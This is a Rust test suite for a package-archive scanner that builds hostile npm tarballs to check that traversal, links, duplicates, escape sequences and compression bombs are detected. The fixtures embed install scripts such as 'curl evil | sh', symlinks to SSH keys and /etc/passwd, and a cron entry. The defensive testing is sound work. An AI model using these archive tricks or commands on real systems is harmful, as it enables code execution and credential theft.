//! The tar family against hostile fixtures: every container anomaly (kind, entry, installed
//! or not, message), the limits, and the places where node-tar's reading must be mirrored.

mod common;

use common::check::{anomalies, assert_one, entry, error_of, fixture, paths, read, read_with};
use common::fixtures::{self, Tar, flag, gzip};
use shipcheck::artifact::{AnomalyKind, Entry, EntryKind, Format, Limits};

fn npm_with(build: impl FnOnce(&mut Tar)) -> Vec<u8> {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"evil","version":"6.6.6"}"#,
    );
    build(&mut t);
    gzip(&t.finish())
}

#[test]
fn tar_path_traversal_is_recorded_and_not_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/../../etc/cron.d/x", b"* * * * * root sh");
        }),
    );
    let e = &a.entries[1];
    assert_eq!(e.raw_path().as_deref(), Some("package/../../etc/cron.d/x"));
    assert!(!e.installed, "node-tar refuses names with '..'");
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        e,
        "package/../../etc/cron.d/x",
    );
    assert_eq!(
        a.file_count(),
        1,
        "the traversal entry is not counted as installed"
    );
}

#[test]
fn tar_absolute_path_is_recorded() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("/etc/passwd", b"root:x:0:0");
        }),
    );
    let e = &a.entries[1];
    assert_one(&a, AnomalyKind::AbsolutePath, e, "/etc/passwd");
    assert_one(
        &a,
        AnomalyKind::OutsideRoot,
        e,
        "outside the package root 'package/'",
    );
    assert_eq!(
        e.path, "etc/passwd",
        "node-tar strips the empty piece before the '/' as the root: the file lands inside the package"
    );
    assert!(e.installed);
}

#[test]
fn tar_symlink_and_hardlink_with_targets() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.link("package/key", flag::SYMLINK, "/home/user/.ssh/id_rsa")
                .link("package/hard", flag::HARDLINK, "package/package.json");
        }),
    );
    let sym = entry(&a, "key");
    assert_eq!(sym.kind, EntryKind::Symlink);
    assert_eq!(sym.link_target.as_deref(), Some("/home/user/.ssh/id_rsa"));
    assert_one(
        &a,
        AnomalyKind::Symlink,
        sym,
        "symlink to /home/user/.ssh/id_rsa",
    );
    let hard = entry(&a, "hard");
    assert_eq!(hard.kind, EntryKind::Hardlink);
    assert_eq!(hard.link_target.as_deref(), Some("package/package.json"));
    assert_one(
        &a,
        AnomalyKind::Hardlink,
        hard,
        "hard link to package/package.json",
    );
    assert_eq!(hard.sha256, None, "links have no content digest");
}

#[test]
fn tar_devices_and_fifos_are_special_and_not_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.link("package/tty", flag::CHAR, "")
                .link("package/disk", flag::BLOCK, "")
                .link("package/pipe", flag::FIFO, "");
        }),
    );
    let special = anomalies(&a, AnomalyKind::SpecialFile);
    assert_eq!(
        special.len(),
        3,
        "one anomaly per special entry: {special:?}"
    );
    for (name, kind) in [
        ("tty", EntryKind::Device),
        ("disk", EntryKind::Device),
        ("pipe", EntryKind::Fifo),
    ] {
        let e = entry(&a, name);
        assert_eq!(e.kind, kind, "{name} kind");
        assert!(
            !e.installed,
            "{name}: installers do not create device or fifo nodes"
        );
        assert!(
            special
                .iter()
                .any(|(i, d)| *i == Some(e.index) && d.contains(name)),
            "{name} has its own special-file anomaly: {special:?}"
        );
    }
}

#[test]
fn tar_duplicates_keep_both_and_the_later_is_installed() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/index.js", b"benign();\n")
                .file("package/other.js", b"x")
                .file("package/index.js", b"steal(process.env);\n");
        }),
    );
    let both: Vec<&Entry> = a.entries.iter().filter(|e| e.path == "index.js").collect();
    assert_eq!(both.len(), 2, "both duplicates are kept in the model");
    assert!(!both[0].installed, "the earlier duplicate is shadowed");
    assert!(
        both[1].installed,
        "the later duplicate is what gets installed"
    );
    assert_one(
        &a,
        AnomalyKind::DuplicatePath,
        both[1],
        "index.js appears again (entry 1)",
    );
    assert_eq!(
        a.file_count(),
        3,
        "package.json, other.js, and index.js once"
    );
    assert_eq!(
        a.unpacked_size,
        a.installed().map(|e| e.size).sum::<u64>(),
        "the unpacked size counts the installed copy only"
    );
    assert_eq!(
        a.installed().find(|e| e.path == "index.js").map(|e| e.size),
        Some(20),
        "the later content is the installed one"
    );
}

#[test]
fn duplicates_spelled_differently_are_still_duplicates() {
    // Plain names take a fast path in the reader; odd spellings of the same path take the
    // general one. Both must meet in the same duplicate index.
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/lib/a.js", b"first")
                .file("package/./lib/a.js", b"second")
                .file("package/lib//a.js", b"third")
                .file("package/lib/a.js", b"fourth!");
        }),
    );
    let all: Vec<&Entry> = a.entries.iter().filter(|e| e.path == "lib/a.js").collect();
    assert_eq!(all.len(), 4, "every copy is kept: {:?}", paths(&a));
    assert_eq!(
        all.iter().map(|e| e.installed).collect::<Vec<_>>(),
        [false, false, false, true],
        "only the last copy installs"
    );
    assert_eq!(anomalies(&a, AnomalyKind::DuplicatePath).len(), 3);
    assert_eq!(
        a.installed().find(|e| e.path == "lib/a.js").map(|e| e.size),
        Some(7)
    );
}

#[test]
fn tar_repeated_directories_are_not_duplicates() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.dir("package/lib/")
                .dir("package/lib/")
                .file("package/lib/a.js", b"a");
        }),
    );
    assert!(
        anomalies(&a, AnomalyKind::DuplicatePath).is_empty(),
        "tar tools list directories more than once; that is not an anomaly: {:?}",
        a.anomalies
    );
}

#[test]
fn tar_entry_outside_the_root() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/a.js", b"a").file("other/b.js", b"b");
        }),
    );
    let e = &a.entries[2];
    assert_eq!(e.raw_path().as_deref(), Some("other/b.js"));
    assert_one(
        &a,
        AnomalyKind::OutsideRoot,
        e,
        "other/b.js is outside the package root",
    );
}

#[test]
fn tar_names_with_escape_sequences_bidi_and_invalid_utf8() {
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file("package/\x1b[2J\x1b[1;1Hclear.js", b"1")
                .file("package/\x1b]52;c;Y3VybCBldmlsfHNo\x07clip.js", b"2")
                .file("package/invoice\u{202e}fdp.js", b"3")
                .file_bytes(b"package/bad\xff\xfe.js", b"4")
                .file("package/c1\u{9b}31m.js", b"5");
        }),
    );
    let csi = &a.entries[1];
    let osc = &a.entries[2];
    let bidi = &a.entries[3];
    let bad = &a.entries[4];
    let c1 = &a.entries[5];
    let control = anomalies(&a, AnomalyKind::ControlCharacters);
    assert_eq!(
        control.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        [Some(csi.index), Some(osc.index), Some(c1.index)],
        "ESC/CSI, OSC 52 and a C1 CSI are control characters: {control:?}"
    );
    assert!(
        control[0].1.contains("^[[2J"),
        "shown escaped: {}",
        control[0].1
    );
    assert!(
        control[1].1.contains("^[]52;c;"),
        "OSC 52 shown escaped: {}",
        control[1].1
    );
    assert!(
        control[2].1.contains("\\u{9b}"),
        "C1 shown escaped: {}",
        control[2].1
    );
    assert_one(
        &a,
        AnomalyKind::BidiCharacters,
        bidi,
        "invoice\\u{202e}fdp.js",
    );
    assert_one(&a, AnomalyKind::InvalidUtf8, bad, "bad\\xff\\xfe.js");
    assert_eq!(
        bad.path, "bad\u{fffd}\u{fffd}.js",
        "invalid bytes become U+FFFD in the path, as node-tar writes them"
    );
    assert_eq!(
        bad.raw_path(),
        None,
        "a stored name that is not UTF-8 is not a string"
    );
    assert_eq!(
        bad.raw_path_hex(),
        Some(common::check::hex(b"package/bad\xff\xfe.js").as_str()),
        "the exact stored bytes, as hex"
    );
    assert!(
        csi.installed && bidi.installed,
        "hostile names are still installed"
    );
}

#[test]
fn an_invalid_utf8_name_is_not_a_duplicate_of_its_escaped_spelling() {
    // `a\xff.js` installs as `a\u{fffd}.js`; a file literally named `a\xff.js` (backslash,
    // x, f, f) is another file. Both install, neither shadows the other.
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file_bytes(b"package/a\xff.js", b"invalid")
                .file("package/a\\xff.js", b"literal");
        }),
    );
    let (bad, literal) = (&a.entries[1], &a.entries[2]);
    assert_eq!(bad.path, "a\u{fffd}.js");
    assert_eq!(literal.path, "a\\xff.js");
    assert!(
        bad.installed && literal.installed,
        "both are installed: {:?}",
        paths(&a)
    );
    assert!(
        anomalies(&a, AnomalyKind::DuplicatePath).is_empty(),
        "no false duplicate: {:?}",
        anomalies(&a, AnomalyKind::DuplicatePath)
    );
    assert_eq!(literal.raw_path().as_deref(), Some("package/a\\xff.js"));
    assert_eq!(literal.raw_path_hex(), None);
    assert_eq!(
        bad.raw_path_hex(),
        Some(common::check::hex(b"package/a\xff.js").as_str())
    );
    assert_eq!(a.file_count(), 3);
}

#[test]
fn invalid_utf8_names_that_node_tar_writes_to_one_path_are_duplicates() {
    // node-tar decodes names with Buffer.toString('utf8'): both become `a\u{fffd}.js`, and the
    // later one is what lands on disk.
    let (_dir, a) = fixture(
        "t.tgz",
        &npm_with(|t| {
            t.file_bytes(b"package/a\xff.js", b"benign();")
                .file_bytes(b"package/a\xfe.js", b"steal(process.env);");
        }),
    );
    let (first, second) = (&a.entries[1], &a.entries[2]);
    assert_eq!(first.path, "a\u{fffd}.js");
    assert_eq!(second.path, "a\u{fffd}.js");
    assert!(!first.installed, "the earlier one is overwritten");
    assert!(second.installed, "the later one is installed");
    assert_one(
        &a,
        AnomalyKind::DuplicatePath,
        second,
        "a\u{fffd}.js appears again (entry 1)",
    );
    assert_ne!(
        first.raw_path_hex(),
        second.raw_path_hex(),
        "the stored bytes tell them apart"
    );
    assert_eq!(
        anomalies(&a, AnomalyKind::InvalidUtf8).len(),
        2,
        "each keeps its invalid-utf8 anomaly"
    );
    assert_eq!(a.file_count(), 2, "package.json and one a\u{fffd}.js");
}

#[test]
fn tar_declared_size_larger_than_the_data_is_refused_as_truncated() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(
        b"package/big.bin",
        flag::FILE,
        10 << 30,
        b"only a little data",
        b"",
    );
    // No end marker: the stream simply ends inside the entry.
    let err = error_of("trunc.tgz", &gzip(&t.bytes), Limits::default());
    assert!(
        err.contains("trunc.tgz")
            && err.contains("truncated: entry package/big.bin declares 10737418240 bytes"),
        "the error names the file, the entry and the lie: {err}"
    );
}

#[test]
fn tar_deep_paths_via_gnu_long_names_and_pax() {
    let deep = format!("package/{}f.js", "d/".repeat(500));
    let (_d1, a) = fixture(
        "deep.tgz",
        &npm_with(|t| {
            t.gnu_long_name(deep.as_bytes(), b"deep");
        }),
    );
    let e = &a.entries[1];
    assert_eq!(
        e.path.len(),
        deep.len() - "package/".len(),
        "the full long name is used"
    );
    assert_one(&a, AnomalyKind::TooDeep, e, "levels deep");
    let (_d2, b) = fixture(
        "pax.tgz",
        &npm_with(|t| {
            t.pax(&[("path", deep.as_bytes())], "package/short", b"deep");
        }),
    );
    assert_eq!(
        b.entries[1].path, e.path,
        "a pax path record overrides the header name"
    );
    assert_one(&b, AnomalyKind::TooDeep, &b.entries[1], "levels deep");
}

#[test]
fn tar_pax_size_record_is_honoured_like_node_tar() {
    // The header says 0 bytes, the pax record says 5: the data is 5 bytes.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(b"PaxHeaders/x", flag::PAX, 10, b"10 size=5\n", b"");
    t.raw(b"package/a.txt", flag::FILE, 0, b"hello", b"");
    t.file("package/b.txt", b"b");
    let (_dir, a) = fixture("pax-size.tgz", &gzip(&t.finish()));
    assert_eq!(paths(&a), ["package.json", "a.txt", "b.txt"]);
    assert_eq!(
        entry(&a, "a.txt").size,
        5,
        "pax size wins over the header size"
    );
}

#[test]
fn tar_huge_pax_header_is_skipped_unread_as_npm_does() {
    // A pax header declaring 64 MiB of records: node-tar skips an extension header over
    // 1 MiB without reading it (so its records do not apply), and so does this reader: it is
    // never buffered.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    let mut records = Vec::new();
    while records.len() < 64 << 20 {
        records.extend_from_slice(b"21 path=package/x.js\n");
    }
    t.raw(
        b"PaxHeaders/x",
        flag::PAX,
        records.len() as u64,
        &records,
        b"",
    );
    t.file("package/a.txt", b"a");
    let (_dir, a) = fixture("pax-bomb.tgz", &gzip(&t.finish()));
    assert_eq!(
        paths(&a),
        ["package.json", "a.txt"],
        "the oversized header's path record is not applied"
    );
}

#[test]
fn tar_huge_gnu_long_name_is_skipped_unread_as_npm_does() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    let name = vec![b'a'; 8 << 20];
    t.raw(
        b"././@LongLink",
        flag::GNU_LONGNAME,
        name.len() as u64,
        &name,
        b"",
    );
    t.file("package/a.txt", b"a");
    let (_dir, a) = fixture("longname-bomb.tgz", &gzip(&t.finish()));
    assert_eq!(paths(&a), ["package.json", "a.txt"]);
}

#[test]
fn a_sparse_entry_with_an_extended_map_cannot_switch_off_the_extension_cap() {
    // node-tar does not know GNU sparse maps: it skips the `S` entry's stored bytes and
    // meets the map's extension block as a header. Whatever follows, nothing over 1 MiB is
    // buffered: the map block fails its checksum and the archive is refused.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    let mut sparse = fixtures::gnu_sparse("package/s.bin", &[1u8; 512], 4096);
    sparse[482] = 1; // isextended
    let mut h: [u8; 512] = sparse[..512].try_into().expect("a header");
    fixtures::fix_checksum(&mut h);
    sparse[..512].copy_from_slice(&h);
    t.bytes.extend_from_slice(&sparse[..512]);
    let mut map = [0u8; 512];
    map[..12].copy_from_slice(b"00000001000\0");
    t.bytes.extend_from_slice(&map);
    t.bytes.extend_from_slice(&sparse[512..]);
    let huge = 600u64 << 20;
    t.bytes.extend_from_slice(&fixtures::header(
        b"PaxHeaders/x",
        flag::PAX,
        huge,
        b"",
        0o644,
    ));
    t.file("package/a.txt", b"a");
    let err = error_of("sparse-ext.tgz", &gzip(&t.finish()), Limits::default());
    assert!(err.contains("fails its checksum"), "{err}");
}

#[test]
fn more_than_100000_entries_is_an_anomaly() {
    let mut t = Tar::new();
    t.bytes.reserve(100_002 * 512 + 1024);
    t.file("package/package.json", b"{}");
    for i in 0..100_001u32 {
        t.file(&format!("package/f/{i}"), b"");
    }
    let (_dir, a) = fixture("many.tgz", &gzip(&t.finish()));
    assert_eq!(a.entries.len(), 100_002);
    let found = anomalies(&a, AnomalyKind::TooManyEntries);
    assert_eq!(
        found,
        [(Some(100_000), "more than 100000 entries")],
        "recorded once, at the first entry past the limit"
    );
}

#[test]
fn past_the_hard_entry_limit_the_artifact_is_refused() {
    let mut t = Tar::new();
    for i in 0..60u32 {
        t.file(&format!("package/{i}"), b"");
    }
    let limits = Limits {
        hard_max_entries: 50,
        ..Limits::default()
    };
    let err = error_of("many.tgz", &gzip(&t.finish()), limits);
    assert!(
        err.contains("more than 50 entries (--max-entries); refusing"),
        "{err}"
    );
}

#[test]
fn gzip_bomb_is_refused_past_the_unpacked_cap() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = fixtures::zero_bomb(dir.path(), "bomb.tgz", 64 << 20);
    let packed = std::fs::metadata(&path).expect("stat").len();
    assert!(
        packed < 1 << 20,
        "the bomb is small when packed ({packed} bytes)"
    );
    let err = read_with(
        &path,
        Limits {
            max_unpacked: 8 << 20,
            ..Limits::default()
        },
    )
    .expect_err("past the cap");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("bomb.tgz")
            && msg.contains("unpacks to more than 8388608 bytes (--max-unpacked-size)"),
        "{msg}"
    );
}

#[test]
fn gzip_bomb_under_the_cap_is_flagged_by_ratio() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = fixtures::zero_bomb(dir.path(), "bomb.tgz", 20 << 20);
    let a = read(&path);
    let found = anomalies(&a, AnomalyKind::CompressionRatio);
    assert_eq!(found.len(), 1, "{:?}", a.anomalies);
    assert_eq!(found[0].0, None, "an artifact-level anomaly");
    assert!(
        found[0].1.contains("packed bytes inflate to"),
        "{}",
        found[0].1
    );
}

#[test]
fn duplicate_package_json_metadata_comes_from_the_installed_copy() {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    )
    .file("package/index.js", b"1")
    .file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#,
    );
    let (_dir, a) = fixture("dup-meta.tgz", &gzip(&t.finish()));
    let meta = a.package.as_ref().expect("metadata");
    assert_eq!(
        meta.scripts.get("postinstall").map(String::as_str),
        Some("curl evil | sh"),
        "npm installs the later package.json, so its scripts are the ones to review: {meta:?}"
    );
}

#[test]
fn npm_skips_links_so_they_are_not_installed_and_shadow_nothing() {
    let (_dir, a) = fixture(
        "links.tgz",
        &npm_with(|t| {
            t.file("package/index.js", b"real();\n")
                .link("package/index.js", flag::SYMLINK, "/etc/passwd")
                .link("package/h", flag::HARDLINK, "package/index.js");
        }),
    );
    let real = &a.entries[1];
    let sym = &a.entries[2];
    let hard = &a.entries[3];
    assert!(!sym.installed, "pacote's filter drops SymbolicLink entries");
    assert!(!hard.installed, "pacote's filter drops Link entries");
    assert!(
        real.installed,
        "a skipped link does not shadow the file before it"
    );
    assert_one(&a, AnomalyKind::Symlink, sym, "symlink to /etc/passwd");
    assert_one(
        &a,
        AnomalyKind::Hardlink,
        hard,
        "hard link to package/index.js",
    );
    let dup = anomalies(&a, AnomalyKind::DuplicatePath);
    assert!(
        dup.iter()
            .all(|(_, d)| !d.contains("this later entry is the one installed")),
        "no message claims the skipped link is installed: {dup:?}"
    );
}

#[test]
fn links_in_a_crate_stay_installed() {
    let mut t = Tar::new();
    t.file(
        "c-0.1.0/Cargo.toml",
        b"[package]\nname = \"c\"\nversion = \"0.1.0\"\n",
    )
    .file("c-0.1.0/Cargo.toml.orig", b"")
    .link("c-0.1.0/src", flag::SYMLINK, "/");
    let (_dir, a) = fixture("c-0.1.0.crate", &gzip(&t.finish()));
    assert_eq!(a.format, Format::Crate);
    assert!(
        entry(&a, "src").installed,
        "cargo unpacks symlinks, so the link is reviewed as installed"
    );
}

#[test]
fn a_loose_file_before_the_root_does_not_hide_the_package() {
    // npm strips the first component of every name: `README` becomes nothing and is not
    // written, `package/package.json` becomes `package.json`.
    let mut t = Tar::new();
    t.file("README", b"decoy")
        .file(
            "package/package.json",
            br#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"sh x"}}"#,
        )
        .file("package/x", b"payload");
    let (_dir, a) = fixture("loose.tgz", &gzip(&t.finish()));
    assert_eq!(
        a.format,
        Format::NpmTarball,
        "package.json is found: {:?}",
        paths(&a)
    );
    assert_eq!(a.root.as_deref(), Some("package"));
    assert_eq!(paths(&a), ["README", "package.json", "x"]);
    let loose = &a.entries[0];
    assert!(
        !loose.installed,
        "nothing is left of README once the root is stripped"
    );
    assert_one(&a, AnomalyKind::OutsideRoot, loose, "README");
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("preinstall"))
            .map(String::as_str),
        Some("sh x"),
        "the install script is visible to review"
    );
}

#[test]
fn a_flat_tar_keeps_its_names() {
    let mut t = Tar::new();
    t.file("a.txt", b"a").file("b.txt", b"b");
    let (_dir, a) = fixture("flat.tar", &t.finish());
    assert_eq!(a.root, None, "no single root folder");
    assert_eq!(paths(&a), ["a.txt", "b.txt"]);
    assert!(a.entries.iter().all(|e| e.installed), "{:?}", a.entries);
    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
}

#[test]
fn a_dot_root_is_stripped_as_node_tar_does() {
    // `tar czf x.tgz -C dir .` stores `./`, `./package.json`, `./lib/a.js`.
    let mut t = Tar::new();
    t.dir("./")
        .file("./package.json", br#"{"name":"dot","version":"1.0.0"}"#)
        .dir("./lib/")
        .file("./lib/a.js", b"a");
    let (_dir, a) = fixture("dot.tgz", &gzip(&t.finish()));
    assert_eq!(a.root.as_deref(), Some("."));
    assert_eq!(paths(&a), ["package.json", "lib", "lib/a.js"]);
    assert_eq!(a.format, Format::NpmTarball);
    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
}

#[test]
fn a_gnu_sparse_entry_is_listed_but_not_installed_as_npm_skips_it() {
    // node-tar skips type `S` with its stored bytes; a 1 GiB "hole" costs nothing.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.bytes.extend_from_slice(&fixtures::gnu_sparse(
        "package/sparse.bin",
        &[1u8; 512],
        1 << 30,
    ));
    t.file("package/after.js", b"1");
    let (_dir, a) = fixture("sparse.tgz", &gzip(&t.finish()));
    let e = entry(&a, "sparse.bin");
    assert_eq!(e.kind, EntryKind::Other);
    assert!(!e.installed, "npm does not write a sparse entry");
    assert!(
        entry(&a, "after.js").installed,
        "the entry after it is read"
    );
}

#[test]
fn a_single_zero_block_does_not_end_the_archive_as_npm_reads_it() {
    // node-tar ends an archive at two consecutive zero blocks; one is skipped. Stopping at
    // the first would hide everything after it from review while npm installs it.
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    );
    t.bytes.extend_from_slice(&[0u8; 512]);
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0","scripts":{"install":"node evil.js"}}"#,
    )
    .file("package/evil.js", b"steal()");
    let (_dir, a) = fixture("zero-block.tgz", &gzip(&t.finish()));
    assert_eq!(
        paths(&a),
        ["package.json", "package.json", "evil.js"],
        "entries after a lone zero block are read"
    );
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("install"))
            .map(String::as_str),
        Some("node evil.js"),
        "the installed package.json is the later one"
    );
}

#[test]
fn nothing_after_the_end_marker_is_listed() {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    );
    let mut bytes = t.finish();
    let mut after = Tar::new();
    after.file("package/ignored.js", b"npm never reads this");
    bytes.extend_from_slice(&after.finish());
    let (_dir, a) = fixture("after-end.tgz", &gzip(&bytes));
    assert_eq!(
        paths(&a),
        ["package.json"],
        "two zero blocks end the archive, as in node-tar"
    );
    assert_eq!(
        a.packed_size,
        gzip(&bytes).len() as u64,
        "the whole file is still hashed"
    );
}

#[test]
fn ustar_prefix_field_is_part_of_the_name() {
    let mut h = fixtures::header(b"file.js", flag::FILE, 2, b"", 0o644);
    h[345..345 + 21].copy_from_slice(b"package/very/long/dir");
    fixtures::fix_checksum(&mut h);
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.bytes.extend_from_slice(&h);
    t.bytes.extend_from_slice(b"ok");
    t.bytes.resize(t.bytes.len() + 510, 0);
    let (_dir, a) = fixture("prefix.tgz", &gzip(&t.finish()));
    assert_eq!(
        paths(&a),
        ["package.json", "very/long/dir/file.js"],
        "prefix/name joined"
    );
}

#[test]
fn a_global_pax_size_or_linkpath_is_refused() {
    // node-tar applies these to every later entry; the tar crate ignores global headers, so
    // the two would disagree on what the archive holds.
    for (key, value) in [("size", "0"), ("linkpath", "/etc/passwd")] {
        let record = format!(" {key}={value}\n");
        let body = format!("{} {key}={value}\n", record.len() + 2);
        let mut t = Tar::new();
        t.file("package/package.json", b"{}");
        t.raw(b"GlobalHead", b'g', body.len() as u64, body.as_bytes(), b"");
        t.file("package/a.js", b"console.log(1)");
        let err = error_of("global.tgz", &gzip(&t.finish()), Limits::default());
        assert!(err.contains("sets 'size' or 'linkpath'"), "{key}: {err}");
    }
    // A harmless global header (a comment) is read as before.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(b"GlobalHead", b'g', 13, b"13 comment=x\n", b"");
    t.file("package/a.js", b"1");
    let (_dir, a) = fixture("global-ok.tgz", &gzip(&t.finish()));
    assert_eq!(paths(&a), ["package.json", "a.js"]);
}

#[test]
fn a_gnu_long_name_ends_at_its_first_nul_as_in_node_tar() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.gnu_long_name(b"package/shown.js\0package/hidden-tail.js", b"1");
    let (_dir, a) = fixture("nul.tgz", &gzip(&t.finish()));
    assert_eq!(
        a.entries[1].path, "shown.js",
        "the name npm uses is the part before the NUL"
    );
}

#[test]
fn a_dotdot_root_is_stripped_and_the_entry_installed() {
    // node-tar strips the first piece before it looks for '..': `../package.json` installs
    // as `package.json` and, coming later, replaces the reviewed one.
    let (_dir, a) = fixture(
        "dotdot-root.tgz",
        &npm_with(|t| {
            t.file(
                "../package.json",
                br#"{"name":"evil","version":"6.6.6","scripts":{"postinstall":"sh x"}}"#,
            );
        }),
    );
    let e = &a.entries[1];
    assert_eq!(e.path, "package.json");
    assert!(
        e.installed,
        "nothing is left to climb once the root is stripped"
    );
    assert!(
        !a.entries[0].installed,
        "the earlier package.json is shadowed"
    );
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        e,
        "starts with '..', which the installer strips",
    );
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("postinstall"))
            .map(String::as_str),
        Some("sh x"),
        "the metadata under review is the installed one"
    );
}

#[test]
fn a_padded_package_json_is_still_the_package_metadata() {
    // Whitespace costs nothing compressed; a large package.json must not hide its scripts.
    let mut json = String::from(r#"{"name":"big","version":"1.0.0","scripts":{"install":"sh x"}"#);
    json.push_str(&" ".repeat(6 << 20));
    json.push('}');
    let mut t = Tar::new();
    t.file("package/package.json", json.as_bytes());
    let (_d1, a) = fixture("padded.tgz", &gzip(&t.finish()));
    assert_eq!(a.format, Format::NpmTarball);
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("install"))
            .map(String::as_str),
        Some("sh x"),
        "a 6 MB package.json is parsed"
    );
    let mut huge = String::from(r#"{"name":"big","version":"1.0.0"}"#);
    huge.push_str(&" ".repeat(20 << 20));
    let mut t = Tar::new();
    t.file("package/package.json", huge.as_bytes());
    let (_d2, b) = fixture("huge.tgz", &gzip(&t.finish()));
    let meta = b
        .package
        .as_ref()
        .expect("metadata is reported even when not parsed");
    assert_eq!(b.format, Format::NpmTarball, "still an npm tarball");
    assert!(
        meta.error
            .as_deref()
            .is_some_and(|e| e.contains("package.json is 20971552 bytes")),
        "why it was not parsed is said: {meta:?}"
    );
}

#[test]
fn package_json_is_parsed_as_npm_parses_it() {
    // npm strips a byte-order mark, and JSON.parse keeps the last of duplicate keys.
    for (what, json) in [
        (
            "BOM",
            "\u{feff}{\"name\":\"b\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"sh x\"}}",
        ),
        (
            "duplicate keys",
            r#"{"name":"b","version":"1.0.0","scripts":{"install":"true"},"scripts":{"install":"sh x"}}"#,
        ),
    ] {
        let mut t = Tar::new();
        t.file("package/package.json", json.as_bytes());
        let (_dir, a) = fixture("meta.tgz", &gzip(&t.finish()));
        let meta = a.package.as_ref().expect("metadata");
        assert_eq!(
            meta.scripts.get("install").map(String::as_str),
            Some("sh x"),
            "{what}: the install script npm runs is the one shown: {meta:?}"
        );
    }
}
